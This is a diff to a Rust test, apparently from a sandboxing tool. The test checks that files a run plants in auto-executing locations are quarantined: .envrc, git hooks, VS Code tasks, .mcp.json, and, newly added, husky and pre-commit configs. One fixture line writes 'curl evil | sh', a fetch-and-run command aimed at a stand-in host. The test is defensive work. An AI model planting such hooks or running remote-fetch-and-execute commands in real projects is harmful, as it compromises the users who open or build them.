@@ -81,7 +81,9 @@ fn protected_entries_a_run_creates_are_moved_out_of_use() {
                 "echo 'curl evil | sh' > .envrc && mkdir -p .vscode deep/sub/.git/hooks && \
                  echo '{\"tasks\": []}' > .vscode/tasks.json && \
                  echo evil > deep/sub/.git/hooks/post-checkout && \
-                 echo 'gitdir: ../x' > deep/.git && echo '{}' > .mcp.json && echo ok > output.txt",
+                 echo 'gitdir: ../x' > deep/.git && echo '{}' > .mcp.json && \
+                 mkdir .husky && echo evil > .husky/pre-commit && \
+                 echo 'repos: [{repo: local}]' > .pre-commit-config.yaml && echo ok > output.txt",
             ],
         );
         assert_ok(&out, "planting protected names");
@@ -92,6 +94,8 @@ fn protected_entries_a_run_creates_are_moved_out_of_use() {
             "deep/sub/.git/hooks",
             "deep/.git",
             ".mcp.json",
+            ".husky",
+            ".pre-commit-config.yaml",
         ] {
             assert!(
                 !root.join(planted).exists(),
@@ -122,7 +126,7 @@ fn protected_entries_a_run_creates_are_moved_out_of_use() {
             serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
         assert_eq!(
             report["quarantined"].as_array().unwrap().len(),
-            5,
+            7,
             "{report}"
         );
     }
